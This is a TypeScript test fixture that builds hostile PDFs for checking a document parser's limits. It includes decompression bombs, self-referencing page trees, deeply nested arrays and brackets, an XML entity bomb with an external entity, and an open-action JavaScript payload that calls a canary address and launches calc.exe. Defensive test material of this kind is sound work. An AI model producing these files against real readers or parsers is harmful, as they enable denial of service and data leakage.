import { deflateSync } from 'node:zlib';
import { assemble, buildPdf, lines, stream } from '../pdf/build-pdf.ts';
import { type Bomb, bomb, packedForPdf } from './bomb.ts';

const WORDS = lines(['The harbour was closed on Monday and will open again on Friday.']);
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const TEXT = 'BT /F 12 Tf 60 700 Td (The harbour was closed on Monday.) Tj ET';

/** A page tree with one page, and what else the test wants. */
function onePage(content: Buffer | string, ...more: readonly (string | Buffer)[]): Uint8Array {
  const page =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> /Contents 4 0 R >>';
  return assemble(
    ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page, content, FONT, ...more],
    '/Root 1 0 R',
  );
}

/** PDFs that are bombs; `canary` is an address nobody may ask. */
export function pdfBombs(canary: string): readonly Bomb[] {
  const pdf = (what: string, make: () => Uint8Array, ...ends: readonly string[]) =>
    bomb('article.pdf', what, make, ...ends);
  const good = buildPdf({ pages: [{ drawn: WORDS }] });
  const goodText = Buffer.from(good).toString('latin1');
  const actions = `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${canary}/js"\\); while\\(true\\){}) >> /AA << /WC << /S /Launch /F (calc.exe) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\("${canary}/form"\\)) >>] >> >>`;
  return [
    pdf(
      'a page of 400 MB in 400 kB',
      () => onePage(packed(packedForPdf(400, 32))),
      'too-much-memory',
      'scanned',
      'too-slow',
    ),
    pdf(
      'a page packed three times over',
      () => onePage(packedOver(3)),
      'too-much-memory',
      'scanned',
      'broken',
      'too-slow',
    ),
    pdf(
      'a page that draws itself',
      () =>
        onePage(
          stream(`${TEXT} /X Do`),
          stream(
            `${TEXT} /X Do`,
            '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >>',
          ),
        ),
      'article',
      'too-slow',
      'too-much-memory',
    ),
    pdf(
      'forms that double ten times three',
      () => onePage(stream('/X Do'), ...doublingForms(30)),
      'too-slow',
      'too-much-memory',
      'too-much-text',
      'article',
      'scanned',
    ),
    pdf(
      'pages that are their own parents',
      () => assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'], '/Root 1 0 R'),
      'broken',
      'scanned',
    ),
    pdf(
      'a page tree without end',
      () =>
        assemble(
          [
            '<< /Type /Catalog /Pages 2 0 R >>',
            '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2000000000 >>',
            '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2000000000 >>',
          ],
          '/Root 1 0 R',
        ),
      'broken',
      'scanned',
      'too-slow',
    ),
    pdf('two billion pages that are one', () => goodBilled(goodText), 'broken', 'scanned', 'article', 'too-slow'),
    pdf(
      '200,000 pages that are the same',
      () => manyPages(200_000),
      'too-slow',
      'too-much-text',
      'too-much-memory',
      'too-many-blocks',
    ),
    pdf(
      'a chain of references to itself',
      () => assemble(['<< /Type /Catalog /Pages 2 0 R >>', '3 0 R', '4 0 R', '2 0 R'], '/Root 1 0 R'),
      'broken',
      'scanned',
    ),
    pdf('a tree of tables that is a loop', () => looped(goodText), 'article', 'broken', 'scanned'),
    pdf(
      'a table of objects that leads nowhere',
      () => Buffer.from(goodText.replace(/startxref\n\d+/, 'startxref\n999999999'), 'latin1'),
      'article',
      'broken',
    ),
    pdf('a length that is a loop', () => onePage('<< /Length 4 0 R >>\nstream\nBT ET\nendstream'), 'scanned', 'broken'),
    pdf(
      'arrays 100,000 deep',
      () => onePage(stream(TEXT), `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
      'article',
      'broken',
    ),
    pdf(
      'a font whose table names every sign a book',
      () =>
        assemble(
          [
            '<< /Type /Catalog /Pages 2 0 R >>',
            '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R >>',
            stream(`BT /F 12 Tf 60 700 Td (${'A'.repeat(100)}) Tj ET`),
            '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>',
            stream(
              `1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfchar <41> <${'00610020'.repeat(30_000)}> endbfchar`,
            ),
          ],
          '/Root 1 0 R',
        ),
      'too-much-text',
      'too-much-memory',
      'too-slow',
      'article',
    ),
    pdf(
      'a font that unpacks to 200 MB',
      () => withFont(),
      'article',
      'scanned',
      'too-much-memory',
      'too-slow',
      'broken',
    ),
    pdf(
      'a script, a launch and a form that is sent',
      () => buildPdf({ pages: [{ drawn: WORDS }], catalogue: actions }),
      'article',
    ),
    pdf(
      'a file of elsewhere in its place',
      () =>
        onePage(`<< /Length 0 /F << /FS /URL /F (${canary}/stream) >> /FFilter /FlateDecode >>\nstream\n\nendstream`),
      'scanned',
      'broken',
    ),
    pdf(
      'a picture a million wide and high',
      () =>
        onePage(
          stream(`${TEXT} /X Do`),
          stream(
            Buffer.alloc(1_000),
            '/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
          ),
        ),
      'article',
    ),
    pdf(
      '3,000 kB of brackets',
      () => Buffer.from(`%PDF-1.7\n1 0 obj\n${'<<'.repeat(1_500_000)}`),
      'broken',
      'too-slow',
      'too-much-memory',
    ),
    pdf(
      'a hundred thousand objects cut short',
      () =>
        Buffer.from(
          `%PDF-1.7\n${Array.from({ length: 100_000 }, (_, index) => `${index} 0 obj\n<< /Type /Page /Parent ${index + 1} 0 R`).join('\n')}`,
        ),
      'broken',
      'scanned',
      'too-slow',
    ),
    pdf('half of itself', () => good.subarray(0, good.length / 2), 'article', 'broken', 'scanned'),
    pdf(
      'locked with a password',
      () =>
        Buffer.from(
          goodText.replace(
            '/Root 1 0 R',
            `/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${'5a'.repeat(32)}> /U <${'a5'.repeat(32)}> >> /ID [<00> <00>]`,
          ),
          'latin1',
        ),
      'encrypted',
    ),
    pdf(
      'a lock nobody makes',
      () =>
        Buffer.from(goodText.replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Homemade /V 99 >>'), 'latin1'),
      'broken',
      'encrypted',
    ),
    pdf(
      'metadata that is a bomb of entities',
      () =>
        buildPdf({
          pages: [{ drawn: WORDS }],
          xmp: `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "${canary}/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/">${'<a>'.repeat(50_000)}&b;&c;</x:xmpmeta>`,
        }),
      'article',
    ),
  ];
}

function packed(bytes: Buffer, entries = '/Filter /FlateDecode'): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

function packedOver(times: number): Buffer {
  let content = packedForPdf(400, 32);
  for (let time = 1; time < times; time += 1) content = deflateSync(content, { level: 9 });
  return packed(content, `/Filter [${'/FlateDecode '.repeat(times)}]`);
}

function doublingForms(count: number): readonly Buffer[] {
  return Array.from({ length: count }, (_, index) => {
    const isLast = index === count - 1;
    const resources = isLast ? '/Font << /F 5 0 R >>' : `/XObject << /X ${index + 7} 0 R >>`;
    return stream(
      isLast ? TEXT : '/X Do /X Do',
      `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${resources} >>`,
    );
  });
}

function goodBilled(good: string): Uint8Array {
  return Buffer.from(good.replace('/Count 1 ', '/Count 2000000000 '), 'latin1');
}

function manyPages(count: number): Uint8Array {
  const page =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R >>';
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} >>`,
      page,
      stream(TEXT),
      FONT,
    ],
    '/Root 1 0 R',
  );
}

/** Its table says that the table before it is itself. */
function looped(good: string): Uint8Array {
  const place = /startxref\n(\d+)/.exec(good)?.[1] ?? '0';
  return Buffer.from(good.replace('/Root 1 0 R', `/Prev ${place} /Root 1 0 R`), 'latin1');
}

function withFont(): Uint8Array {
  const font = packed(packedForPdf(200), '/Filter /FlateDecode /Length1 209715200');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R >>',
    stream(TEXT),
    '<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 32 /LastChar 122 /Widths [600] /FontDescriptor 6 0 R >>',
    '<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /StemV 1 /FontFile2 7 0 R >>',
    font,
  ];
  return assemble(objects, '/Root 1 0 R');
}
